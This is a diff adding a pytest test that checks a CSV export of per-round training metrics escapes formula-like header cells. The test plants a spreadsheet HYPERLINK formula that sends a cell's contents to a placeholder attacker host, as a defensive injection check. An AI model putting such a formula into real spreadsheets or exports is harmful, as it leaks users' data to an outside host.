@@ -221,6 +221,22 @@ def test_rounds_csv_one_row_per_round(tmp_path):
     assert float(last["loss"]) == pytest.approx(0.5)
 
 
+def test_rounds_csv_never_starts_a_cell_with_a_formula(tmp_path):
+    """A metric's name is the notebook's or a site's word: a spreadsheet shows it, never runs it."""
+    results = make_results(tmp_path, baselines=False)
+    rounds = json.loads((results / "rounds.json").read_text())
+    formula = '=HYPERLINK("http://attacker.example/?"&A1,"open")'
+    for round_ in rounds:
+        for metrics in round_["evaluate"].values():
+            metrics[formula] = 1.0
+        round_["pooled"] = summarize_round(round_["evaluate"])
+    (results / "rounds.json").write_text(json.dumps(rounds), encoding="utf-8")
+    with write_rounds_csv(results).open(newline="", encoding="utf-8") as fh:
+        header = next(csv.reader(fh))
+    assert "'" + formula in header and formula not in header, header
+    assert not any(cell[:1] in "=+-@" for cell in header if cell), header
+
+
 def test_write_report_keeps_existing_rounds_csv(tmp_path):
     results = make_results(tmp_path, baselines=False)
     (results / "rounds.csv").write_text("written by the server\n")
